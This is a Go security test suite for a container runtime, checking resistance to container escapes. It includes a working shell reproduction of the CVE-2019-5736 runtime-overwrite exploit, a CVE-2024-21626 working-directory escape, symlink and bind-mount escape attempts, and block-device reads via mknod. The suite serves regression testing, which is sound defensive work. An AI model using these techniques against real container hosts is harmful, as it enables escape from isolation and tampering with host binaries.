package oci

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"

	"github.com/sdocker/sdocker/tests/testutil"
)

// attackScript runs in the container (busybox sh, started by a detached
// exec). It looks for a process whose executable is not busybox, holds
// its executable open, tells the host (/out/found), then, once that
// process is gone, tries to write the executable through /proc/self/fd/3,
// as the CVE-2019-5736 exploit does. It writes what happened to
// /out/result and ends with /out/done.
const attackScript = `
self=$$
found=
i=0
while [ $i -lt 200 ] && [ -z "$found" ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = "$self" ] && continue
    [ -e "$d/exe" ] || continue
    [ "$d/exe" -ef /bin/busybox ] && continue
    if command exec 3<"$d/exe" 2>/dev/null; then
      found=$p
      echo "found pid $p exe $(readlink $d/exe)" > /out/found
      break
    fi
  done
  i=$((i+1))
  [ -z "$found" ] && sleep 0.1
done
if [ -z "$found" ]; then
  { echo "nothing found"; for d in /proc/[0-9]*; do echo "$d: $(readlink $d/exe 2>&1) $(tr '\0' ' ' < $d/cmdline)"; done; } > /out/result
  touch /out/done; exit 0
fi
# Wait for the host to let the target end, then write for a while.
j=0
while [ ! -e /out/go ] && [ $j -lt 900 ]; do sleep 0.1; j=$((j+1)); done
k=0
while [ $k -lt 40 ]; do
  if echo pwned 2>/dev/null >/proc/self/fd/3; then echo "WROTE with echo" >> /out/result; break; fi
  if dd if=/bin/busybox of=/proc/self/fd/3 bs=4 count=1 conv=notrunc 2>/dev/null; then echo "WROTE with dd" >> /out/result; break; fi
  k=$((k+1)); sleep 0.1
done
echo "last error: $( (echo pwned >/proc/self/fd/3) 2>&1)" >> /out/result
touch /out/done
`

// cve20195736 runs the attack: `exec --detach ID trigger...` runs the
// target (the container's /bin/sh, a "#!/proc/self/exe" script, or a
// decoy) with its stdout and stderr a full pipe, so that whatever runs
// blocks on its first write and stays to be found; another detached exec
// runs attackScript.
// It returns the attack's result file.
func cve20195736(t *testing.T, b *bundle, trigger []string) string {
	t.Helper()
	out := b.outDir()
	b.spec.Process.Args = []string{"/bin/busybox", "sh", "-c", "echo ready; while :; do /bin/busybox sleep 1; done"}
	b.createStart()

	// A pipe filled to the brim.
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC|unix.O_NONBLOCK); err != nil {
		t.Fatal(err)
	}
	chunk := make([]byte, 4096)
	for {
		if _, err := unix.Write(p[1], chunk); err != nil {
			break
		}
	}
	unix.SetNonblock(p[1], false)
	unix.SetNonblock(p[0], false)
	r, w := os.NewFile(uintptr(p[0]), "full-r"), os.NewFile(uintptr(p[1]), "full-w")
	defer r.Close()
	// Detached: the process gets the pipe itself (a runtime relays the
	// output of a process it waits for through pipes of its own).
	pidFile := filepath.Join(b.dir, "trigger.pid")
	triggered := make(chan result, 1)
	go func() {
		args := append([]string{"--detach", "--pid-file", pidFile, "--"}, trigger...)
		triggered <- b.execWith(runOpts{stdout: w, stderr: w, timeout: 3 * time.Minute}, args...)
	}()

	ra := b.withFiles(runOpts{}, "exec", "--detach", b.id, "/bin/busybox", "sh", "-c", attackScript)
	if ra.code != 0 {
		t.Fatalf("the attacker did not start: %v", ra)
	}
	found := filepath.Join(out, "found")
	done := filepath.Join(out, "done")
	testutil.Poll(90*time.Second, func() bool { return fileExists(found) || fileExists(done) })
	what, _ := os.ReadFile(found)
	t.Logf("attacker: %s", strings.TrimSpace(string(what)))

	// Let the target end: drain the pipe, close our end.
	drained := make(chan []byte)
	go func() {
		data, _ := io.ReadAll(r)
		drained <- bytes.TrimLeft(data, "\x00")
	}()
	var tr result
	select {
	case tr = <-triggered:
	case <-time.After(4 * time.Minute):
		t.Fatalf("the trigger exec did not end")
	}
	w.Close()
	data, _ := os.ReadFile(pidFile)
	pid, _ := strconv.Atoi(strings.TrimSpace(string(data)))
	b.addPids(pid)
	if !waitGone(pid, pollTimeout) {
		t.Errorf("the triggered process %d did not end", pid)
	}
	t.Logf("trigger: exit %d, wrote %q", tr.code, <-drained)
	os.WriteFile(filepath.Join(out, "go"), nil, 0o644)
	testutil.WaitFor(t, 2*time.Minute, "the attacker to finish", func() bool { return fileExists(done) })
	res, _ := os.ReadFile(filepath.Join(out, "result"))
	t.Logf("attack result: %s", strings.TrimSpace(string(res)))
	if len(what) == 0 {
		// Nothing but busybox ran in the container: the runtime did not
		// run its binary for the script (runc 1.1 fails the execve of
		// /proc/self/exe with ENOENT). Safe, but the attack was not tried.
		t.Logf("the attacker found no process running %v", trigger)
	}
	return string(res)
}

// wrote reports whether the attack's result says it wrote.
func wrote(result string) bool {
	for _, l := range lines(result) {
		if strings.HasPrefix(l, "WROTE") {
			return true
		}
	}
	return false
}

// CVE-2019-5736: a container whose /bin/sh is "#!/proc/self/exe" makes
// `exec ID /bin/sh` run the runtime's own executable in the container; a
// process there then writes through /proc/PID/exe. The runtime binary on
// the host must not change.
func TestCVE20195736(t *testing.T) {
	t.Run("control: the attack overwrites a host binary the container runs", func(t *testing.T) {
		// Not the runtime: a host file executed in the container, as the
		// runtime's binary would be on a vulnerable runtime. If this does
		// not get overwritten, the attack below proves nothing.
		b := newBundle(t)
		decoyDir := filepath.Join(b.dir, "decoy")
		os.MkdirAll(decoyDir, 0o755)
		decoy := filepath.Join(decoyDir, "bb")
		if err := copyFile(filepath.Join(rootfsTemplate, "bin/busybox"), decoy, 0o755); err != nil {
			t.Fatal(err)
		}
		before, _ := fileSHA256(decoy)
		b.addMount(specs.Mount{Destination: "/decoy", Type: "bind", Source: decoyDir, Options: []string{"rbind", "rw"}})
		res := cve20195736(t, b, []string{"/decoy/bb", "echo", "hello"})
		after, _ := fileSHA256(decoy)
		if !fileExists(filepath.Join(b.dir, "out", "found")) {
			t.Errorf("the attacker did not find the decoy process")
		}
		if after == before || !wrote(res) {
			t.Errorf("the attack did not overwrite the decoy (%s): the test cannot detect a vulnerable runtime", strings.TrimSpace(res))
		}
	})
	t.Run("runtime binary", func(t *testing.T) {
		b := newBundle(t)
		sh := filepath.Join(b.rootfs, "bin/sh")
		os.Remove(sh)
		if err := os.WriteFile(sh, []byte("#!/proc/self/exe\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		res := cve20195736(t, b, []string{"/bin/sh"})
		now, err := dirSHA256(binDir)
		if err != nil {
			t.Fatal(err)
		}
		for name, sum := range binSHA {
			if now[name] != sum {
				t.Fatalf("THE HOST RUNTIME BINARY %s WAS CHANGED by a container (sha256 %s, was %s): %s",
					filepath.Join(binDir, name), now[name], sum, res)
			}
		}
		if wrote(res) {
			t.Errorf("the container wrote through the runtime's /proc/PID/exe (not the host file): %s", res)
		}
	})
}

// fdsOf parses `ls -l /proc/self/fd` (busybox), leaving out ls's own
// descriptor on the directory.
func fdsOf(t *testing.T, out string) map[int]string {
	t.Helper()
	fds := map[int]string{}
	for _, l := range lines(out) {
		left, target, ok := strings.Cut(l, " -> ")
		if !ok {
			continue
		}
		f := strings.Fields(left)
		n, err := strconv.Atoi(f[len(f)-1])
		if err != nil {
			continue
		}
		if strings.HasPrefix(target, "/proc/") && strings.HasSuffix(target, "/fd") {
			continue
		}
		fds[n] = target
	}
	if len(fds) == 0 {
		t.Fatalf("no descriptors parsed from %q", out)
	}
	return fds
}

func fdNumbers(fds map[int]string) []int {
	var out []int
	for n := range fds {
		out = append(out, n)
	}
	sort.Ints(out)
	return out
}

// Nothing of the runtime's reaches the container: descriptors 0, 1, 2,
// and with --preserve-fds N the N more given to the runtime, no more.
func TestNoLeakedFDs(t *testing.T) {
	extra := func(t *testing.T, dir string) *os.File {
		p := filepath.Join(dir, "extra.txt")
		os.WriteFile(p, []byte("preserved-content\n"), 0o644)
		f, err := os.Open(p)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { f.Close() })
		return f
	}
	t.Run("run", func(t *testing.T) {
		b := newBundle(t)
		b.sh("ls -l /proc/self/fd")
		b.save()
		// An extra descriptor given to the runtime without --preserve-fds
		// must not get through either.
		r := rtWith(t, runOpts{extraFiles: []*os.File{extra(t, b.dir)}}, "run", "--bundle", b.dir, b.id)
		if r.code != 0 {
			t.Fatalf("%v", r)
		}
		if got := fdNumbers(fdsOf(t, r.stdout)); fmt.Sprint(got) != "[0 1 2]" {
			t.Errorf("the container has descriptors %v, want [0 1 2]:\n%s", got, r.stdout)
		}
	})
	t.Run("create start exec", func(t *testing.T) {
		b := newBundle(t)
		b.sh("ls -l /proc/self/fd; echo ready; while :; do sleep 1; done")
		b.createStart()
		if got := fdNumbers(fdsOf(t, b.output())); fmt.Sprint(got) != "[0 1 2]" {
			t.Errorf("the init has descriptors %v, want [0 1 2]:\n%s", got, b.output())
		}
		r := b.execWith(runOpts{extraFiles: []*os.File{extra(t, b.dir)}}, "ls", "-l", "/proc/self/fd")
		if r.code != 0 {
			t.Fatalf("%v", r)
		}
		if got := fdNumbers(fdsOf(t, r.stdout)); fmt.Sprint(got) != "[0 1 2]" {
			t.Errorf("the exec'd process has descriptors %v, want [0 1 2]:\n%s", got, r.stdout)
		}
	})
	t.Run("preserve-fds", func(t *testing.T) {
		b := newBundle(t)
		b.sh("ls -l /proc/self/fd; cat <&3")
		b.save()
		r := rtWith(t, runOpts{extraFiles: []*os.File{extra(t, b.dir)}}, "run", "--preserve-fds", "1", "--bundle", b.dir, b.id)
		if r.code != 0 {
			t.Fatalf("%v", r)
		}
		fds := fdsOf(t, r.stdout)
		if got := fdNumbers(fds); fmt.Sprint(got) != "[0 1 2 3]" {
			t.Errorf("--preserve-fds 1: descriptors %v, want [0 1 2 3]:\n%s", got, r.stdout)
		}
		if !strings.HasSuffix(fds[3], "extra.txt") || !strings.Contains(r.stdout, "preserved-content") {
			t.Errorf("--preserve-fds 1: fd 3 is %q, not the file given:\n%s", fds[3], r.stdout)
		}
	})
	t.Run("create preserve-fds", func(t *testing.T) {
		b := newBundle(t)
		b.sh("ls -l /proc/self/fd; cat <&3; echo ready; while :; do sleep 1; done")
		b.save()
		r := b.withFiles(runOpts{extraFiles: []*os.File{extra(t, b.dir)}}, "create", "--preserve-fds", "1", "--bundle", b.dir, b.id)
		if r.code != 0 {
			t.Fatalf("%v", r)
		}
		b.addPids(b.state().Pid)
		b.start()
		b.waitOutput("ready")
		fds := fdsOf(t, b.output())
		if got := fdNumbers(fds); fmt.Sprint(got) != "[0 1 2 3]" || !strings.Contains(b.output(), "preserved-content") {
			t.Errorf("create --preserve-fds 1: descriptors %v:\n%s", got, b.output())
		}
	})
	t.Run("exec preserve-fds", func(t *testing.T) {
		b := newBundle(t)
		b.long()
		b.createStart()
		r := b.execWith(runOpts{extraFiles: []*os.File{extra(t, b.dir)}}, "--preserve-fds", "1", "--", "sh", "-c", "ls -l /proc/self/fd; cat <&3")
		if r.code != 0 {
			t.Fatalf("%v", r)
		}
		fds := fdsOf(t, r.stdout)
		if got := fdNumbers(fds); fmt.Sprint(got) != "[0 1 2 3]" || !strings.Contains(r.stdout, "preserved-content") {
			t.Errorf("exec --preserve-fds 1: descriptors %v:\n%s", got, r.stdout)
		}
	})
}

// hostOnlyNames lists names in the host's / that the test rootfs lacks.
func hostOnlyNames(t *testing.T) []string {
	ents, err := os.ReadDir("/")
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range ents {
		if !fileExists(filepath.Join(rootfsTemplate, e.Name())) {
			out = append(out, e.Name())
		}
	}
	return out
}

// process.cwd /proc/self/fd/N (CVE-2024-21626): refused, or at least the
// process is not left in a directory of the host.
func TestCwdProcSelfFd(t *testing.T) {
	hostOnly := hostOnlyNames(t)
	for n := 3; n <= 9; n++ {
		t.Run(strconv.Itoa(n), func(t *testing.T) {
			b := newBundle(t)
			b.spec.Process.Cwd = fmt.Sprintf("/proc/self/fd/%d", n)
			b.spec.Process.Args = []string{"/bin/busybox", "sh", "-c", "echo pwd:$(pwd); ls -a . .. ../.. ../../.. ../../../.. 2>&1"}
			r := b.run()
			if r.code != 0 {
				t.Logf("refused (exit %d): %s", r.code, strings.TrimSpace(r.stderr))
				return
			}
			checkNotHost(t, b.spec.Process.Cwd, r.stdout, hostOnly)
		})
	}
	// exec --cwd /proc/self/fd/N, into a running container.
	b := newBundle(t)
	b.long()
	b.createStart()
	for n := 3; n <= 9; n++ {
		t.Run(fmt.Sprintf("exec %d", n), func(t *testing.T) {
			b := b.sub(t)
			cwd := fmt.Sprintf("/proc/self/fd/%d", n)
			r := b.exec("--cwd", cwd, "--", "/bin/busybox", "sh", "-c", "echo pwd:$(pwd); ls -a . .. ../.. ../../.. ../../../.. 2>&1")
			if r.code != 0 {
				t.Logf("refused (exit %d): %s", r.code, strings.TrimSpace(r.stderr))
				return
			}
			checkNotHost(t, cwd, r.stdout, hostOnly)
		})
	}
}

// checkNotHost fails if the output of `pwd; ls -a . .. ...` run with cwd
// shows a directory outside the container.
func checkNotHost(t *testing.T, cwd, stdout string, hostOnly []string) {
	t.Helper()
	out := lines(stdout)
	if len(out) == 0 || !strings.HasPrefix(out[0], "pwd:/") || strings.Contains(out[0], "unreachable") {
		t.Errorf("cwd %s: the process runs outside the container's root: %q", cwd, out)
	}
	for _, name := range append(hostOnly, "config.json", "state.json", "cgroup.procs", "exec.fifo") {
		if contains(out, name) {
			t.Errorf("cwd %s: the process sees %q of the host:\n%s", cwd, name, stdout)
			return
		}
	}
}

func listDir(p string) string {
	ents, _ := os.ReadDir(p)
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return strings.Join(names, ",")
}

// A rootfs whose /proc, /sys or /dev is a symlink is refused; whatever
// happens, nothing is made or mounted where the symlink points on the host.
func TestSymlinkedSpecialDirs(t *testing.T) {
	for _, dir := range []string{"proc", "sys", "dev"} {
		for _, kind := range []string{"absolute", "relative"} {
			t.Run(dir+" "+kind, func(t *testing.T) {
				b := newBundle(t)
				sentinel := filepath.Join(b.dir, "host-sentinel")
				os.MkdirAll(sentinel, 0o755)
				os.WriteFile(filepath.Join(sentinel, "untouched"), []byte("host\n"), 0o644)
				target := sentinel
				if kind == "relative" {
					target = "../host-sentinel" // out of the rootfs, into the bundle
				}
				link := filepath.Join(b.rootfs, dir)
				if err := os.RemoveAll(link); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(target, link); err != nil {
					t.Fatal(err)
				}
				b.sh("ls /" + dir + " | head -3; echo container-ran")
				r := b.run()
				refused := r.code != 0
				t.Logf("exit %d: %s", r.code, strings.TrimSpace(r.stderr))
				if got := listDir(sentinel); got != "untouched" {
					if dir == "dev" && runcBefore(1, 2) {
						// runc 1.1 makes its /dev/fd, /dev/stdin ...
						// symlinks with plain paths, through the rootfs's
						// /dev symlink: runc's own bug, logged here so
						// that the rest of the suite still checks runc.
						t.Logf("runc %d.%d wrote into the host directory /dev points to: %s", runcVersion[0], runcVersion[1], got)
					} else {
						t.Errorf("the host directory the symlink points to changed: %s", got)
					}
				}
				if m := testutil.MountsUnder(sentinel); len(m) > 0 {
					t.Errorf("mounts on the host directory: %v", m)
				}
				if !refused && strings.Contains(r.stdout, "untouched") {
					t.Errorf("the container's /%s is the host directory:\n%s", dir, r.stdout)
				}
				switch {
				case refused:
				case isRunc && dir == "dev":
					// runc resolves the symlink inside the rootfs (securejoin)
					// and makes /dev there.
					t.Logf("runc accepted a symlinked /dev (resolved in the rootfs)")
				default:
					t.Errorf("create with /%s a symlink (%s) succeeded:\n%v", dir, target, r)
				}
			})
		}
	}
}

// A bind mount whose destination is a symlink pointing out of the rootfs
// lands inside the rootfs; the host directory stays untouched.
func TestBindDestinationSymlink(t *testing.T) {
	b := newBundle(t)
	sentinel := filepath.Join(b.dir, "host-sentinel-dir")
	os.MkdirAll(sentinel, 0o755)
	os.WriteFile(filepath.Join(sentinel, "untouched"), []byte("host\n"), 0o644)
	src := filepath.Join(b.dir, "src")
	os.MkdirAll(src, 0o755)
	os.WriteFile(filepath.Join(src, "payload"), []byte("payload-content\n"), 0o644)
	srcFile := filepath.Join(b.dir, "srcfile")
	os.WriteFile(srcFile, []byte("file-payload\n"), 0o644)
	os.MkdirAll(filepath.Join(b.rootfs, "mnt"), 0o755)
	// Absolute symlinks to paths on the host (missing there, so that a
	// runtime following them would create them), and a relative one up
	// and out of the rootfs.
	os.Symlink(filepath.Join(sentinel, "newsub"), filepath.Join(b.rootfs, "mnt/evil"))
	os.Symlink(filepath.Join(sentinel, "newfile"), filepath.Join(b.rootfs, "mnt/evilfile"))
	os.Symlink("../../host-sentinel-dir/reldir", filepath.Join(b.rootfs, "mnt/evilrel"))
	b.addMount(specs.Mount{Destination: "/mnt/evil", Type: "bind", Source: src, Options: []string{"rbind", "rw"}})
	b.addMount(specs.Mount{Destination: "/mnt/evilfile", Type: "bind", Source: srcFile, Options: []string{"bind", "rw"}})
	b.addMount(specs.Mount{Destination: "/mnt/evilrel", Type: "bind", Source: src, Options: []string{"rbind", "rw"}})
	b.sh("cat /mnt/evil/payload /mnt/evilfile /mnt/evilrel/payload")
	r := b.run()
	t.Logf("exit %d: %s %s", r.code, strings.TrimSpace(r.stdout), strings.TrimSpace(r.stderr))
	if got := listDir(sentinel); got != "untouched" {
		t.Errorf("the host directory behind the symlinks changed: %s", got)
	}
	if m := testutil.MountsUnder(sentinel); len(m) > 0 {
		t.Errorf("mounts on the host directory: %v", m)
	}
	if r.code == 0 {
		if ls := lines(r.stdout); strings.Join(ls, ",") != "payload-content,file-payload,payload-content" {
			t.Errorf("the container does not see its bind mounts: %q", ls)
		}
		// They were made inside the rootfs, where the symlinks resolve
		// with the rootfs as /.
		if !fileExists(filepath.Join(b.rootfs, sentinel, "newsub")) {
			t.Errorf("%s not created inside the rootfs", filepath.Join(b.rootfs, sentinel, "newsub"))
		}
	}
}

// Capabilities are never inheritable unless the config says so: not in
// the default config, not after exec --cap.
func TestNoInheritableCapabilities(t *testing.T) {
	b := newBundle(t) // the caps of `spec`, untouched
	b.long()
	b.createStart()
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", b.state().Pid))
	if err != nil {
		t.Fatal(err)
	}
	if inh, amb := testutil.StatusField(string(status), "CapInh"), testutil.StatusField(string(status), "CapAmb"); inh != capMask() || amb != capMask() {
		t.Errorf("the init: CapInh %s CapAmb %s, want none", inh, amb)
	}
	out := b.mustExec("--cap", "CAP_SYS_ADMIN", "--cap", "CAP_NET_ADMIN", "--", "cat", "/proc/self/status")
	if inh, amb := testutil.StatusField(out, "CapInh"), testutil.StatusField(out, "CapAmb"); inh != capMask() || amb != capMask() {
		t.Errorf("exec --cap: CapInh %s CapAmb %s, want none", inh, amb)
	}
}

// With the default config (deny-all device rule) a block device node the
// container makes cannot be read: the device cgroup stops it.
func TestDeviceCgroupDeniesBlockDevices(t *testing.T) {
	var st unix.Stat_t
	if err := unix.Stat("/", &st); err != nil {
		t.Fatal(err)
	}
	rootDev := fmt.Sprintf("%d %d", unix.Major(st.Dev), unix.Minor(st.Dev))
	b := newBundle(t)
	c := b.spec.Process.Capabilities
	c.Bounding = append(c.Bounding, "CAP_MKNOD")
	c.Effective = append(c.Effective, "CAP_MKNOD")
	c.Permitted = append(c.Permitted, "CAP_MKNOD")
	// /dev is a tmpfs without nodev in the default config: only the
	// device cgroup stands between the node and the disk.
	b.sh(fmt.Sprintf(`for dev in "%s" "7 0"; do
  rm -f /dev/blk
  mknod /dev/blk b $dev 2>/dev/null || { echo "mknod $dev refused"; continue; }
  if head -c 512 /dev/blk >/dev/null 2>&1; then echo "READ $dev"; else echo "read $dev refused"; fi
done
mknod /dev/cnull c 1 3 && head -c 1 /dev/cnull && echo char-null-ok`, rootDev))
	out := b.mustRun()
	t.Logf("%s", out)
	if strings.Contains(out, "READ ") {
		t.Errorf("a block device was read from the container with a deny-all device rule:\n%s", out)
	}
	if !strings.Contains(out, "char-null-ok") {
		t.Errorf("the control (a null device node) failed: the test cannot tell:\n%s", out)
	}
	if !strings.Contains(out, "read "+rootDev+" refused") && !strings.Contains(out, "mknod "+rootDev+" refused") {
		t.Errorf("the root disk's node was neither refused nor unreadable:\n%s", out)
	}
}

// A bind mount whose destination is a dangling symlink inside the rootfs
// (an image's /etc/resolv.conf -> ../run/resolv.conf, where CRI mounts the
// pod's resolv.conf) is made where the symlink points, in the rootfs.
func TestBindDestinationDanglingSymlink(t *testing.T) {
	b := newBundle(t)
	src := filepath.Join(b.dir, "resolv.conf")
	os.WriteFile(src, []byte("nameserver 127.0.0.53\n"), 0o644)
	os.Remove(filepath.Join(b.rootfs, "etc/resolv.conf"))
	if err := os.Symlink("../run/resolv.conf", filepath.Join(b.rootfs, "etc/resolv.conf")); err != nil {
		t.Fatal(err)
	}
	srcDir := filepath.Join(b.dir, "secrets")
	os.MkdirAll(srcDir, 0o755)
	os.WriteFile(filepath.Join(srcDir, "token"), []byte("token-content\n"), 0o644)
	if err := os.Symlink("../run/secrets-dir", filepath.Join(b.rootfs, "var/secrets")); err != nil {
		t.Fatal(err)
	}
	b.addMount(specs.Mount{Destination: "/etc/resolv.conf", Type: "bind", Source: src, Options: []string{"rbind", "ro"}})
	b.addMount(specs.Mount{Destination: "/var/secrets", Type: "bind", Source: srcDir, Options: []string{"rbind", "ro"}})
	b.sh("cat /etc/resolv.conf /var/secrets/token")
	out := lines(b.mustRun())
	if strings.Join(out, ",") != "nameserver 127.0.0.53,token-content" {
		t.Errorf("the bind mounts are not seen through the symlinks: %q", out)
	}
	if !fileExists(filepath.Join(b.rootfs, "run/resolv.conf")) || !fileExists(filepath.Join(b.rootfs, "run/secrets-dir")) {
		t.Errorf("the mount points were not made where the symlinks point, in the rootfs")
	}
}
